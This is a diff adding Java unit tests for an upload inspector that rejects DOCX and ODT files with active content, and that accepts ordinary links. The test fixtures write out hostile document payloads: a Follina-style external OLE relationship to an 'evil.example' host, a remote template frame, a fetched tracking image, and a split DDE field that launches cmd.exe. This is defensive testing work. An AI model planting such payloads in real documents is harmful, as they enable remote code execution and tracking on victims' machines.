@@ -158,4 +158,75 @@ class UploadOfficeTest {
         }
         return entries;
     }
+
+    static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
+
+    private static byte[] docxWithDocumentRelationship(String type, String target, String mode) {
+        var parts = SampleFiles.docxParts(SampleFiles.documentXml(SampleFiles.paragraphs("Hej")));
+        parts.put("word/_rels/document.xml.rels", SampleFiles.utf8("""
+                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
+                <Relationship Id="rId9" Type="%s" Target="%s"%s/></Relationships>"""
+                .formatted(REL + type, target, mode == null ? "" : " TargetMode=\"" + mode + "\"")));
+        return SampleFiles.zip(parts);
+    }
+
+    private static UploadRefusedException.Reason refusal(byte[] file, String name) {
+        try {
+            new UploadInspector(UploadLimits.defaults()).inspect(name, file);
+            return null;
+        } catch (UploadRefusedException refused) {
+            return refused.reason();
+        }
+    }
+
+    @Test
+    void aDocxThatFetchesFromElsewhereOrRunsFieldsIsRefused() {
+        var active = UploadRefusedException.Reason.ACTIVE_CONTENT;
+        assertThat(refusal(docxWithDocumentRelationship("oleObject", "mhtml:http://evil.example/x!x.html", "External"), "a.docx"))
+                .as("external OLE object (Follina)").isEqualTo(active);
+        assertThat(refusal(docxWithDocumentRelationship("image", "file://fileserver/share/x.png", "External"), "b.docx"))
+                .as("picture on a file share").isEqualTo(active);
+        assertThat(refusal(docxWithDocumentRelationship("frame", "http://evil.example/t.dotm", "External"), "c.docx"))
+                .as("remote frame").isEqualTo(active);
+        assertThat(refusal(docxWithDocumentRelationship("aFChunk", "/word/afchunk.mht", null), "d.docx"))
+                .as("alternative format chunk").isEqualTo(active);
+        var embedded = SampleFiles.docxParts(SampleFiles.documentXml(SampleFiles.paragraphs("Hej")));
+        embedded.put("word/embeddings/oleObject1.bin", new byte[] {1, 2, 3});
+        assertThat(refusal(SampleFiles.zip(embedded), "e.docx")).as("embedded OLE object").isEqualTo(active);
+        String splitDde = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>"
+                + "<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \\\"/k calc\\\"</w:instrText></w:r>"
+                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
+        assertThat(refusal(SampleFiles.docx(SampleFiles.documentXml(splitDde)), "f.docx")).as("DDE field in two runs")
+                .isEqualTo(active);
+    }
+
+    @Test
+    void ordinaryLinksAndFieldsStay() {
+        String hyperlinkField = "<w:p><w:fldSimple w:instr=\" HYPERLINK &quot;https://example.dk/link&quot; \">"
+                + "<w:r><w:t>se mit link</w:t></w:r></w:fldSimple><w:r><w:t>Side </w:t></w:r>"
+                + "<w:fldSimple w:instr=\" PAGE \"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>";
+
+        assertThat(refusal(docxWithDocumentRelationship("hyperlink", "https://www.linkedin.com/in/x", "External"), "a.docx")).isNull();
+        assertThat(refusal(SampleFiles.docx(SampleFiles.documentXml(hyperlinkField)), "b.docx")).isNull();
+    }
+
+    @Test
+    void anOdtWithScriptsListenersForeignObjectsOrFetchedPicturesIsRefused() {
+        var active = UploadRefusedException.Reason.ACTIVE_CONTENT;
+        String draw = "xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" "
+                + "xmlns:xlink=\"http://www.w3.org/1999/xlink\" ";
+        assertThat(refusal(SampleFiles.odt(SampleFiles.contentXml(
+                "<office:event-listeners><script:event-listener script:event-name=\"dom:load\"/></office:event-listeners>")), "a.odt"))
+                .isEqualTo(active);
+        assertThat(refusal(SampleFiles.odt(SampleFiles.contentXml(
+                "<text:p><draw:frame " + draw + "><draw:image xlink:href=\"http://evil.example/pixel.png\"/></draw:frame></text:p>")),
+                "b.odt")).isEqualTo(active);
+        assertThat(refusal(SampleFiles.odt(SampleFiles.contentXml(
+                "<text:p><draw:frame " + draw + "><draw:object-ole xlink:href=\"./Object 1\"/></draw:frame></text:p>")),
+                "c.odt")).isEqualTo(active);
+        assertThat(refusal(SampleFiles.odt(SampleFiles.contentXml(
+                "<text:p><text:a " + draw + " xlink:href=\"https://example.dk\">mit websted</text:a></text:p>")), "d.odt"))
+                .as("an ordinary link").isNull();
+    }
 }
